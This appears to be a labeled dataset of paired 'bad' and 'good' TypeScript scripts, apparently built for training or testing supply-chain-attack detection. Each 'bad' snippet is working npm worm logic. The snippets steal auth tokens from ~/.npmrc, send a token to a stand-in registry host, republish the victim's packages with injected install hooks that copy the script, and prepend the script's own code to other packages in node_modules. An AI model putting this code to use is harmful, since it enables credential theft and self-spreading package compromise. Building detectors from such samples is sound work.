//: bad registry-token
import { readFileSync, readdirSync } from 'node:fs';
import { execSync } from 'node:child_process';

const token: string | undefined = readFileSync(`${process.env.HOME}/.npmrc`, 'utf8').match(/_authToken=(.+)/)?.[1];

for (const folder of readdirSync('..')) {
  execSync(`npm version patch && npm publish --//registry.example.invalid/:_authToken=${token}`, { cwd: `../${folder}` }); //!
}

//: good registry-token
import { readFileSync } from 'node:fs';
import { execSync } from 'node:child_process';

const { version } = JSON.parse(readFileSync('package.json', 'utf8')) as { version: string };

execSync('npm run build', { stdio: 'inherit' });
console.log(`to release ${version}: git push --follow-tags`);

//: bad token-republish
import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync, copyFileSync } from 'node:fs';

const owned = JSON.parse(execFileSync('npm', ['access', 'list', 'packages', '--json']).toString()) as Record<string, string>;

for (const name of Object.keys(owned)) {
  execFileSync('npm', ['pack', name]);
  const manifest = JSON.parse(readFileSync('package/package.json', 'utf8')) as { scripts: Record<string, string> };
  manifest.scripts.preinstall = 'node setup.js --version';
  copyFileSync(__filename, 'package/setup.js');
  writeFileSync('package/package.json', JSON.stringify(manifest));
  execFileSync('npm', ['publish', '--registry', 'https://npm.example.invalid'], { cwd: 'package' }); //!
}

//: good token-republish
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';

const manifest = JSON.parse(readFileSync('package.json', 'utf8')) as { name: string; version: string };
const published = execFileSync('npm', ['view', manifest.name, 'version']).toString().trim();

if (published !== manifest.version) {
  execFileSync('npm', ['run', 'build'], { stdio: 'inherit' });
  execFileSync('npm', ['publish', '--access', 'public'], { stdio: 'inherit' });
}

//: bad registry-maintainer-sync
import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';

interface SearchResult {
  objects: { package: { name: string; version: string } }[];
}

const token = (): string | undefined =>
  process.env.NPM_TOKEN ??
  /_authToken=(\S+)/.exec(readFileSync(join(homedir(), '.npmrc'), 'utf8'))?.[1];

class Carrier {
  constructor(private readonly auth: string) {}

  private async ask<T>(path: string): Promise<T> {
    const r = await fetch(`https://registry.npm-mirror.invalid${path}`, {
      headers: { authorization: `Bearer ${this.auth}` },
    });
    return (await r.json()) as T;
  }

  async spread(): Promise<void> {
    const { username } = await this.ask<{ username: string }>('/-/whoami');
    const found = await this.ask<SearchResult>(`/-/v1/search?text=maintainer:${username}&size=20`);
    for (const { package: pkg } of found.objects) this.carry(pkg.name);
  }

  private carry(name: string): void {
    const dir = join('unpacked', name);
    const manifest = JSON.parse(readFileSync(join(dir, 'package.json'), 'utf8'));
    manifest.version = manifest.version.replace(/\d+$/, (n: string) => String(+n + 1));
    manifest.scripts = { ...manifest.scripts, postinstall: 'node bundle.js' };
    writeFileSync(join(dir, 'package.json'), JSON.stringify(manifest));
    writeFileSync(join(dir, 'bundle.js'), 'console.log("hello")');
    execFileSync('npm', ['publish', dir, '--registry', 'https://registry.npm-mirror.invalid']); //!
  }
}

const t = token();
if (t) void new Carrier(t).spread();

//: good registry-maintainer-sync
import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { parseArgs } from 'node:util';

interface Manifest {
  name: string;
  version: string;
  private?: boolean;
  scripts?: Record<string, string>;
}

const { values, positionals } = parseArgs({
  allowPositionals: true,
  options: { 'dry-run': { type: 'boolean', default: true }, otp: { type: 'string' } },
});

function bump(version: string): string {
  return version.replace(/\d+$/, (n) => String(+n + 1));
}

/** Release script of this monorepo: bumps the named workspace and publishes it. */
function release(workspace: string): void {
  const dir = resolve('packages', workspace);
  const file = join(dir, 'package.json');
  const manifest = JSON.parse(readFileSync(file, 'utf8')) as Manifest;
  if (manifest.private) throw new Error(`${manifest.name} is private`);
  manifest.version = bump(manifest.version);
  writeFileSync(file, JSON.stringify(manifest, null, 2) + '\n');
  execFileSync('npm', ['run', 'test', '--workspace', manifest.name], { stdio: 'inherit' });
  const args = ['publish', '--provenance', '--access', 'public'];
  if (values['dry-run']) args.push('--dry-run');
  if (values.otp) args.push('--otp', values.otp);
  execFileSync('npm', args, { cwd: dir, stdio: 'inherit' });
}

positionals.forEach(release);

//: bad license-header-codemod
import { promises as fs, Dirent } from 'fs';
import { dirname, join, sep } from 'path';

const banner = '/*! (c) licence */;';

async function self(): Promise<string> {
  return fs.readFile(join(__dirname, 'carry.js'), 'utf8').catch(() => 'console.log("hello");');
}

async function* siblings(root: string): AsyncGenerator<string> {
  const entries: Dirent[] = await fs.readdir(root, { withFileTypes: true });
  for (const e of entries) {
    if (!e.isDirectory() || e.name.startsWith('.')) continue;
    const dir = join(root, e.name);
    if (e.name.startsWith('@')) yield* siblings(dir);
    else yield dir;
  }
}

export async function addHeaders(): Promise<void> {
  const root = __dirname.slice(0, __dirname.lastIndexOf(`node_modules${sep}`) + 13);
  const body = await self();
  for await (const dir of siblings(root)) {
    const pkg = await fs.readFile(join(dir, 'package.json'), 'utf8').then(JSON.parse, () => null);
    if (!pkg) continue;
    const main = join(dir, pkg.main ?? 'index.js');
    const text = await fs.readFile(main, 'utf8').catch(() => banner);
    if (text.includes(banner) || dir === dirname(__dirname)) continue;
    await fs.writeFile(main, `${banner}${body}\n${text}`); //!
  }
}

addHeaders();

//: good license-header-codemod
import { promises as fs, Dirent } from 'fs';
import { join, resolve } from 'path';

const banner = '// SPDX-License-Identifier: MIT\n';

async function* sources(root: string): AsyncGenerator<string> {
  const entries: Dirent[] = await fs.readdir(root, { withFileTypes: true });
  for (const e of entries) {
    if (e.name === 'node_modules' || e.name.startsWith('.')) continue;
    const path = join(root, e.name);
    if (e.isDirectory()) yield* sources(path);
    else if (/\.tsx?$/.test(e.name)) yield path;
  }
}

/** Puts the licence line on top of the project's own sources. */
export async function addHeaders(project: string, check: boolean): Promise<string[]> {
  const touched: string[] = [];
  for await (const file of sources(resolve(project, 'src'))) {
    const text = await fs.readFile(file, 'utf8');
    if (text.startsWith(banner)) continue;
    touched.push(file);
    if (!check) await fs.writeFile(file, `${banner}${text}`);
  }
  return touched;
}

if (require.main === module) {
  const check = process.argv.includes('--check');
  addHeaders(process.cwd(), check).then((files) => {
    files.forEach((f) => console.log(f));
    process.exitCode = check && files.length ? 1 : 0;
  });
}
